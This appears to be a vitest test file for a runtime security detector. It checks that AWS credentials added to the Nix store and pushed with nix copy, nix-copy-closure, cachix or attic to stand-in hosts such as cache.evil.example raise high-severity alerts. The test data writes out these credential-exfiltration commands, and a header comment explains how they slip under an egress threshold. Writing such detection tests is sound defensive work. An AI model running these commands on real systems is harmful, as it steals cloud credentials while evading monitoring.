/**
 * Nix store paths copied off the machine (evasion hunt, round 3): a derivation's output is any file, so `nix copy
 * --to ssh-ng://HOST PATH` (not to an S3 bucket: object storage, as `aws s3 cp`), `nix-copy-closure --to HOST
 * PATH`, `cachix push CACHE PATH` and `attic push CACHE PATH` send whatever was put in the store (`nix store add-file ~/.aws/credentials`), a few KiB far under the egress
 * threshold: nothing was raised. Checked as exported Tetragon and Falco JSON lines through the real scan path;
 * kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const CREDS = '/root/.aws/credentials';
const STORE_PATH = '/nix/store/0c7x4l9s6m1v8q2k3j5h7g9f1d3s5a7z-credentials';

async function alertsOf(name: string, binary: string, args: string, to: string, form: SensorForm) {
  const s = inlineScenario(name, { 'cache.evil.example': '198.51.100.11', 'evil.cachix.org': '104.26.1.1' }, [
    {
      at: '1s',
      exec: {
        id: 'add',
        parent: 'app',
        binary: '/nix/var/nix/profiles/default/bin/nix',
        args: `store add-file ${CREDS}`,
      },
    },
    { after: '2ms', read: { proc: 'add', path: CREDS, bytes: 116 } },
    { after: '3ms', exit: { proc: 'add' } },
    { after: '500ms', exec: { id: 'push', parent: 'app', binary, args } },
    { after: '5ms', upload: { proc: 'push', to, bytes: '6KiB', over: '300ms' } },
    { after: '10ms', exit: { proc: 'push' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

const NIX = '/nix/var/nix/profiles/default/bin/nix';
const high = (tool: string, destination: string) => ({
  rule: 'sensitive-read-then-push',
  severity: 'high',
  tool,
  destination,
});

describe('nix store paths copied off the machine', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`nix copy or flake archive --to a remote store and nix-copy-closure --to a host are high (${form})`, async () => {
      const ssh = `copy --to ssh-ng://root@cache.evil.example ${STORE_PATH}`;
      expect(await alertsOf('nix-copy-ssh', NIX, ssh, 'cache.evil.example:22', form)).toEqual([
        high('nix', 'cache.evil.example'),
      ]);
      const http = `--extra-experimental-features nix-command copy --to https://cache.evil.example ${STORE_PATH}`;
      expect(await alertsOf('nix-copy-http', NIX, http, 'cache.evil.example:443', form)).toEqual([
        high('nix', 'cache.evil.example'),
      ]);
      // A flake's source is any directory, copied with its inputs (review: no push).
      const flake = 'flake archive --to ssh-ng://root@cache.evil.example path:/root/.aws';
      expect(await alertsOf('nix-flake-archive', NIX, flake, 'cache.evil.example:22', form)).toEqual([
        high('nix', 'cache.evil.example'),
      ]);
      const closure = '/nix/var/nix/profiles/default/bin/nix-copy-closure';
      expect(
        await alertsOf(
          'nix-copy-closure',
          closure,
          `--to root@cache.evil.example ${STORE_PATH}`,
          'cache.evil.example:22',
          form,
        ),
      ).toEqual([high('nix', '198.51.100.11:22')]);
    });

    it(`cachix push and attic push are high (${form})`, async () => {
      const cachix = '/nix/var/nix/profiles/default/bin/cachix';
      expect(await alertsOf('cachix-push', cachix, `push evil ${STORE_PATH}`, 'evil.cachix.org:443', form)).toEqual([
        high('nix', '104.26.1.1:443'),
      ]);
      // cachix-action's default: the daemon uploads (found by review: no push).
      const daemon = 'daemon run --socket /tmp/cachix-daemon-x/daemon.sock evil';
      expect(await alertsOf('cachix-daemon', cachix, daemon, 'evil.cachix.org:443', form)).toEqual([
        high('nix', '104.26.1.1:443'),
      ]);
      const attic = '/nix/var/nix/profiles/default/bin/attic';
      expect(
        await alertsOf('attic-push', attic, `push evil:loot ${STORE_PATH}`, 'cache.evil.example:443', form),
      ).toEqual([high('nix', '198.51.100.11:443')]);
    });

    it(`cachix daemon push, handing the read path to a daemon started before the read, is high (${form})`, async () => {
      // Review: the daemon was started first, so its own push came before the read; the request is the push.
      const cachix = '/nix/var/nix/profiles/default/bin/cachix';
      const socket = '--socket /tmp/cachix-daemon-x/daemon.sock';
      const s = inlineScenario('cachix-daemon-push', { 'evil.cachix.org': '104.26.1.1' }, [
        { at: '1s', exec: { id: 'daemon', parent: 'app', binary: cachix, args: `daemon run ${socket} evil` } },
        { after: '30s', exec: { id: 'add', parent: 'app', binary: NIX, args: `store add-file ${CREDS}` } },
        { after: '2ms', read: { proc: 'add', path: CREDS, bytes: 116 } },
        { after: '3ms', exit: { proc: 'add' } },
        {
          after: '500ms',
          exec: { id: 'hand', parent: 'app', binary: cachix, args: `daemon push ${socket} ${STORE_PATH}` },
        },
        { after: '5ms', exit: { proc: 'hand' } },
        { after: '5ms', upload: { proc: 'daemon', to: 'evil.cachix.org:443', bytes: '6KiB', over: '300ms' } },
      ]);
      // The daemon's start is the low notice; the request names no cache and makes no connect: no destination.
      expect((await runInlineScenario(s, form)).alerts.map(briefOf)).toEqual([
        { rule: 'push-without-reads', severity: 'low', tool: 'nix', destination: '104.26.1.1:443' },
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'nix', destination: null },
      ]);
    });

    it(`copies into a local store or a bucket, from a cache, and cachix's reads are quiet (${form})`, async () => {
      const to = 'cache.evil.example:443';
      for (const [name, binary, args] of [
        ['nix-copy-local', NIX, `copy --to file:///tmp/cache ${STORE_PATH}`],
        // Object storage, as `aws s3 cp` of the file itself (review of f5bfd49: it was high).
        ['nix-copy-s3', NIX, `copy --to s3://acme-nix-cache?region=eu-west-1 ${STORE_PATH}`],
        ['nix-copy-root', NIX, `copy --to /mnt/root ${STORE_PATH}`],
        ['nix-copy-from', NIX, `copy --from https://cache.nixos.org ${STORE_PATH}`],
        ['nix-build', NIX, 'build .#default'],
        ['nix-flake-archive-local', NIX, 'flake archive .'],
        ['nix-copy-closure-from', '/nix/var/nix/profiles/default/bin/nix-copy-closure', `--from builder ${STORE_PATH}`],
        ['cachix-use', '/nix/var/nix/profiles/default/bin/cachix', 'use nix-community'],
      ] as const)
        expect(await alertsOf(name, binary, args, to, form), args).toEqual([]);
    });
  }
});
